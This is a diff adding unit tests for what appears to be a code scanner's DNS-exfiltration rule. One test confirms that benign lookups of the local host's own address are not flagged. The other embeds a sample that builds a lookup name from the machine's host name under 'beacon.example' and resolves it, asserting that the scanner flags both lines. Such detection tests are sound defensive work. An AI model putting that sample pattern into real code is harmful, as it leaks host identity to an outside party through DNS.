@@ -105,6 +105,29 @@ def test_resolving_the_own_host_name_or_a_fixed_name_is_no_dns_exfiltration():
     assert below_medium(source)
 
 
+def test_finding_the_local_address_from_the_host_name_held_in_a_variable_is_quiet():
+    source = """
+    import socket
+    hostname = socket.gethostname()
+    ip = socket.gethostbyname(hostname)
+    public = socket.gethostbyname_ex(hostname)[2]
+    first = socket.getaddrinfo(hostname, None, socket.AF_UNSPEC, 0, 0, socket.AI_ADDRCONFIG)[0][4][0]
+    both = socket.getaddrinfo(socket.gethostname(), 0)
+    """
+    assert [rule for rule, _ in found(source) if rule == "exfiltration.dns"] == []
+
+
+def test_exfiltration_dns_host_name_formatted_into_a_name_held_in_a_variable():
+    source = """
+    import socket
+    host = socket.gethostname()
+    name = '{}.beacon.example'.format(host)
+    socket.gethostbyname(name)
+    socket.gethostbyname('.'.join([host, 'beacon.example']))
+    """
+    assert [line for rule, line in found(source) if rule == "exfiltration.dns"] == [5, 6]
+
+
 # --- exfiltration.host-data ----------------------------------------------------------------------------------
 def test_exfiltration_host_data_sent_in_a_request_body():
     source = """
